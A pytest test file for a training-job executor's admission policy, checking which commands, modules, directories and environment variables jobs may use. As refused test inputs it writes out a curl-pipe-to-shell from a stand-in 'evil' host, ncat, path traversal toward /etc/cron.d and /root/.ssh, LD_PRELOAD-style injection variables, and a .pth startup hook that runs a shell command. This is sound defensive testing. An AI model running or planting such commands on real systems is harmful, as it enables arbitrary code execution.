"""The admission policy: what may run, what is refused before anything starts, and the rule it names."""

from __future__ import annotations

import argparse
import os
import sys
import time
from pathlib import Path

import pytest

from trainmedic.bus.message import Record
from trainmedic.bus.settings import KafkaSettings
from trainmedic.recovery.executor import cli, metrics
from trainmedic.recovery.executor.command_loop import Executor
from trainmedic.recovery.executor.config import ExecutorConfig
from trainmedic.recovery.executor.core.admission import AdmissionPolicy, Refusal, admit, resolve
from trainmedic.recovery.executor.ledger import Ledger
from trainmedic.schemas import Command, CommandAcked, CommandAction, WorkerSpec

PYTHON = "/opt/venv/bin/python"
PATH = {"python": PYTHON, "sh": "/bin/sh", "sleep": "/bin/sleep", "torchrun": "/opt/venv/bin/torchrun",
        "nice": "/usr/bin/nice"}
DEFAULT = AdmissionPolicy()


def check(argv: tuple[str, ...], policy: AdmissionPolicy = DEFAULT, **spec) -> Refusal | None:
    worker = WorkerSpec(submission="s1", rendezvous_key="ab" * 32,
                        ranks=(0,), world_size=1, master_addr="h", master_port=1, command=argv, **spec)
    return admit(policy, worker, python=PYTHON, which=PATH.get)


def test_the_default_admits_the_demo_module_under_the_executors_own_python() -> None:
    assert check((PYTHON, "-m", "trainmedic.demo.train", "--steps", "5")) is None
    assert check(("python", "-m", "trainmedic.demo.train")) is None  # a name found on PATH
    assert check(("nice", "-n", "10", PYTHON, "-m", "trainmedic.demo")) is None  # the demo's own form


@pytest.mark.parametrize("argv, rule, words", [
    (("sh", "-c", "curl evil | sh"), "executable", "/bin/sh is not an allowed executable"),
    (("/bin/sh", "-c", "id"), "executable", "/bin/sh is not an allowed"),
    (("/opt/venv/bin/../../../bin/sh", "-c", "id"), "executable", "/bin/sh is not"),  # `..` resolved
    (("nice", "-n", "10", "sh", "-c", "id"), "executable", "/bin/sh is not"),  # nice hides nothing
    (("nice", "-n", "x", PYTHON, "-m", "trainmedic.demo"), "executable", "/usr/bin/nice is not"),
    (("ncat",), "executable", "'ncat' is not found on PATH"),
    ((PYTHON, "-m", "http.server"), "module", "module 'http.server' is not in the allowed modules "
                                               "(trainmedic.demo)"),
    ((PYTHON, "-m", "trainmedic.demonic"), "module", "'trainmedic.demonic'"),  # a prefix is a package
    ((PYTHON, "-c", "import os"), "module", "may run only `-m MODULE` or a script"),
    ((PYTHON, "train.py"), "script", "script 'train.py' is not in an allowed script directory (none)"),
    (("/usr/bin/python3", "-m", "trainmedic.demo.train"), "executable", "/usr/bin/python3 is not"),
])
def test_anything_else_is_refused_with_the_rule_it_breaks(argv, rule, words) -> None:
    refusal = check(argv)
    assert refusal is not None and refusal.rule == rule and words in refusal.reason, refusal
    assert str(refusal).startswith(f"admission policy ({rule}): ")


def test_an_interpreter_is_the_path_it_is_listed_by_never_another_path_to_its_file(tmp_path: Path) -> None:
    # A venv the job made, its bin/python a link to the admitted binary: its pyvenv.cfg and
    # site-packages (any .pth there) would load first. The same file under another name likewise.
    venv = tmp_path / "venv"
    (venv / "bin").mkdir(parents=True)
    (venv / "pyvenv.cfg").write_text(f"home = {Path(sys.executable).parent}\n")
    (venv / "bin" / "python").symlink_to(sys.executable)
    other = tmp_path / "python-too"
    other.symlink_to(os.path.realpath(sys.executable))
    worker = WorkerSpec(submission="s1", rendezvous_key="ab" * 32,
                        ranks=(0,), world_size=1, master_addr="h", master_port=1,
                        command=(sys.executable, "-m", "trainmedic.demo.train"))
    assert admit(DEFAULT, worker) is None  # the executor's own, as listed
    for python in (venv / "bin" / "python", other, Path(os.path.realpath(sys.executable))):
        if str(python) == sys.executable:
            continue
        command = (str(python), "-m", "trainmedic.demo")
        refusal = admit(DEFAULT, worker.model_copy(update={"command": command}))
        assert refusal is not None and refusal.rule == "executable", refusal
        assert f"{python} is not an allowed executable or interpreter" in refusal.reason
    listed = AdmissionPolicy(allowed_interpreters=(str(venv / "bin" / "python"),))
    assert admit(listed, worker.model_copy(update={"command": (str(venv / "bin" / "python"), "-m",
                                                               "trainmedic.demo")})) is None


def test_an_operator_lists_executables_modules_interpreters_and_script_dirs() -> None:
    policy = AdmissionPolicy(allowed_executables=("torchrun", "/bin/sleep"), allowed_modules=("llm",),
                             allowed_interpreters=("/usr/bin/python3",), allowed_script_dirs=("/opt/jobs",))
    assert check(("torchrun", "--nproc-per-node", "8", "train.py"), policy) is None
    assert check(("sleep", "30"), policy) is None  # listed by path, given by name
    assert check(("/usr/bin/python3", "-m", "llm.train"), policy) is None
    assert check((PYTHON, "/opt/jobs/a/train.py"), policy) is None
    assert check((PYTHON, "/opt/jobs/../etc/x.py"), policy).rule == "script"
    assert check((PYTHON, "/opt/jobsx/train.py"), policy).rule == "script"
    assert check((PYTHON, "-m", "trainmedic.demo.train"), policy).rule == "module"  # the list replaces
    assert check(("sh", "-c", "id"), policy).rule == "executable"


def test_paths_a_job_names_must_be_in_the_allowed_dirs_when_some_are_listed() -> None:
    argv = (PYTHON, "-m", "trainmedic.demo.train")
    assert check(argv, checkpoint_dir="/etc/cron.d") is None  # no list: anywhere
    policy = AdmissionPolicy(allowed_dirs=("/ckpt",))
    assert check(argv, policy, checkpoint_dir="/ckpt/llm") is None
    refusal = check(argv, policy, checkpoint_dir="/ckpt/../etc/cron.d")
    assert refusal == Refusal("directory", "checkpoint_dir '/ckpt/../etc/cron.d' is not in an allowed "
                                           "directory (/ckpt)")
    assert check(argv, policy, checkpoint_dir="/ckpt/llm", resume="/root/.ssh").rule == "directory"
    assert check(argv, policy, checkpoint_dir="/ckpt/llm", resume="/ckpt/llm-v1/step9.pt") is None
    assert check(argv, policy, checkpoint_dir="/ckpt/llm", resume="latest") is None  # in checkpoint_dir


def test_relative_paths_are_the_workdirs_and_the_workdir_must_be_in_the_allowed_dirs() -> None:
    scripts = AdmissionPolicy(allowed_script_dirs=("/opt/jobs",))
    assert check((PYTHON, "train.py"), scripts, workdir="/opt/jobs/llm") is None  # the rank runs it there
    assert check((PYTHON, "../../tmp/x.py"), scripts, workdir="/opt/jobs/llm").rule == "script"
    assert check(("./bin/sleep",), AdmissionPolicy(allowed_executables=("/opt/jobs/bin/sleep",)),
                 workdir="/opt/jobs") is None
    dirs = AdmissionPolicy(allowed_dirs=("/ckpt",))
    argv = (PYTHON, "-m", "trainmedic.demo.train")
    assert check(argv, dirs, workdir="/ckpt/llm", checkpoint_dir="ckpt") is None
    assert check(argv, dirs, workdir="/ckpt/llm", checkpoint_dir="../../etc").rule == "directory"
    assert check(argv, dirs, workdir="/home/eve") == Refusal(
        "directory", "workdir '/home/eve' is not in an allowed directory (/ckpt)")  # its modules come first


class RecordingExecutor(Executor):
    """The real executor, ledger and supervisor; what it sends is kept instead of going to Kafka."""

    def __init__(self, state_dir: Path) -> None:
        config = ExecutorConfig(node="n1", state_dir=state_dir, insecure=True, warm_start=False,
                                stop_grace_s=0.2, admission=AdmissionPolicy(allowed_executables=("sleep",)))
        super().__init__(config, KafkaSettings.from_env({"TRAINMEDIC_KAFKA_BOOTSTRAP": "127.0.0.1:1"}))
        self.sent: list = []
        self.producer.send = lambda topic, event, key: self.sent.append(event)
        self.applier.ledger = Ledger.open(config.ledger_path("t."))
        self.reporter.start()  # as `run` does: the jobs' sockets are in the ranks' environment


def start(cid: str, argv: tuple[str, ...], generation: int, action=CommandAction.START) -> Record:
    worker = WorkerSpec(submission="s1", rendezvous_key="ab" * 32,
                        ranks=(0,), world_size=1, master_addr="h", master_port=1, command=argv)
    command = Command(ts=time.time(), node="n1", id=cid, job="j", generation=generation, action=action,
                      worker=worker)
    return Record("t.commands", 0, generation, "n1", command, b"")


def test_a_refused_command_is_acked_refused_with_the_rule_counted_and_nothing_started_or_stopped(
        tmp_path: Path) -> None:
    executor = RecordingExecutor(tmp_path)
    refusals = metrics.ADMISSION_REFUSALS.labels("executable")
    before = refusals._value.get()
    try:
        executor._handle(start("ok", ("sleep", "30"), 0))
        executor._handle(start("evil", ("sh", "-c", "id"), 1, CommandAction.RESTART))
        acks = {(e.command_id, e.status.value): e.reason
                for e in executor.sent if isinstance(e, CommandAcked)}
        assert ("evil", "refused") in acks and ("evil", "accepted") not in acks
        assert acks[("evil", "refused")] == (f"admission policy (executable): {resolve('sh')} is not an "
                                             "allowed executable or interpreter (allowed_executables, "
                                             "allowed_interpreters)")
        assert refusals._value.get() == before + 1
        assert executor.supervisor.alive("j") == 1  # the running generation was not stopped for it
        assert "evil" not in executor.applier.ledger.state.applied
    finally:
        executor.supervisor.stop_all(0.2)
        executor.applier.ledger.close()
        executor.reporter.close()


def test_the_policy_is_set_by_flag_variable_or_yaml(tmp_path: Path) -> None:
    (tmp_path / "executor.yaml").write_text("node: n1\ninsecure: true\nadmission:\n"
                                            "  allowed_executables: [torchrun]\n  rank_env: [WANDB_*]\n")
    parser = argparse.ArgumentParser()
    cli.add_arguments(parser)
    args = parser.parse_args(["--config", str(tmp_path / "executor.yaml"), "--allowed-modules", "lab.t,x"])
    config = cli.OPTIONS.build(cli.EXECUTOR, args, {"TRAINMEDIC_EXECUTOR_ALLOWED_DIRS": "/ckpt"},
                               state_dir=lambda _: tmp_path)
    assert config.admission == AdmissionPolicy(allowed_executables=("torchrun",), rank_env=("WANDB_*",),
                                               allowed_modules=("lab.t", "x"), allowed_dirs=("/ckpt",))


@pytest.mark.parametrize("name", ["PYTHONPATH", "LD_PRELOAD", "LD_LIBRARY_PATH", "PATH", "PYTHONSTARTUP",
                                  "BASH_ENV", "DYLD_INSERT_LIBRARIES", "HOME", "PYTHONNOUSERSITE", "LR"])
def test_a_job_env_may_set_only_what_job_env_lists(name) -> None:
    refusal = check((PYTHON, "-m", "trainmedic.demo.train"), env={name: "/tmp/evil"})
    assert refusal is not None and refusal.rule == "environment", refusal
    assert refusal.reason == (f"the job's env sets {name}, which the policy's job_env does not list (none): "
                              "list a variable there to let jobs set it")
    allowed = AdmissionPolicy(job_env=(name,))
    assert check((PYTHON, "-m", "trainmedic.demo.train"), allowed, env={name: "/opt/lib"}) is None


def test_a_job_env_names_every_variable_it_sets_that_is_not_listed() -> None:
    policy = AdmissionPolicy(job_env=("LR", "WANDB_MODE"))
    assert check((PYTHON, "-m", "trainmedic.demo.train"), policy, env={"LR": "3", "WANDB_MODE": "x"}) is None
    refusal = check((PYTHON, "-m", "trainmedic.demo.train"), policy,
                    env={"LR": "3e-4", "WANDB_API_HOST": "x", "OMP_NUM_THREADS": "1", "LRX": "1"})
    assert refusal is not None and "sets LRX, OMP_NUM_THREADS, WANDB_API_HOST, which" in refusal.reason
    assert "does not list (LR, WANDB_MODE)" in refusal.reason


def test_a_home_holding_a_pth_is_refused(tmp_path: Path) -> None:
    # HOME chooses the user site-packages, whose .pth files Python runs at start (as the executor's user)
    version = f"python{sys.version_info[0]}.{sys.version_info[1]}"
    site = tmp_path / ".local" / "lib" / version / "site-packages"
    site.mkdir(parents=True)
    (site / "evil.pth").write_text("import os; os.system('id > /tmp/owned')\n")
    worker = WorkerSpec(submission="s1", rendezvous_key="ab" * 32,
                        ranks=(0,), world_size=1, master_addr="h", master_port=1,
                        command=(sys.executable, "-m", "trainmedic.demo.train"), env={"HOME": str(tmp_path)})
    refusal = admit(DEFAULT, worker)
    assert refusal is not None and refusal.rule == "environment" and "sets HOME" in refusal.reason, refusal


def test_a_relative_script_resolves_against_the_jobs_workdir(tmp_path: Path) -> None:
    scripts = tmp_path / "code"
    policy = AdmissionPolicy(allowed_script_dirs=(str(scripts),))
    assert check((PYTHON, "train.py"), policy, workdir=str(scripts)) is None
    assert check((PYTHON, "../code/train.py"), policy, workdir=str(scripts)) is None
    refusal = check((PYTHON, "../elsewhere/x.py"), policy, workdir=str(scripts))
    assert refusal is not None and refusal.rule == "script", refusal
    # without a workdir, a relative script is the executor's directory's, as before
    assert check((PYTHON, "train.py"), policy) is not None


def test_the_workdir_must_be_an_allowed_directory_when_the_policy_lists_any(tmp_path: Path) -> None:
    policy = AdmissionPolicy(allowed_script_dirs=(str(tmp_path / "code"),),
                             allowed_dirs=(str(tmp_path / "data"),))
    assert check((PYTHON, "train.py"), policy, workdir=str(tmp_path / "code")) is None
    assert check((PYTHON, "-m", "trainmedic.demo"), policy, workdir=str(tmp_path / "data" / "run1")) is None
    refusal = check((PYTHON, "-m", "trainmedic.demo"), policy, workdir="/etc")
    assert refusal is not None and refusal.rule == "directory" and "workdir '/etc'" in refusal.reason, refusal


def test_a_module_run_in_a_workdir_the_job_chose_is_refused_even_by_the_default(tmp_path: Path) -> None:
    # `python -m trainmedic.demo` in /tmp/x imports /tmp/x/trainmedic/demo first: the job's own code
    refusal = check((PYTHON, "-m", "trainmedic.demo.train"), workdir="/tmp/x")
    assert refusal is not None and refusal.rule == "directory", refusal
    assert "workdir '/tmp/x'" in refusal.reason
    assert check(("nice", "-n", "10", PYTHON, "-m", "trainmedic.demo"), workdir="/tmp/x") is not None
    assert check((PYTHON, "-m", "trainmedic.demo.train")) is None  # no workdir: the executor's own
    listed = AdmissionPolicy(allowed_script_dirs=(str(tmp_path),))
    assert check((PYTHON, "-m", "trainmedic.demo.train"), listed, workdir=str(tmp_path)) is None
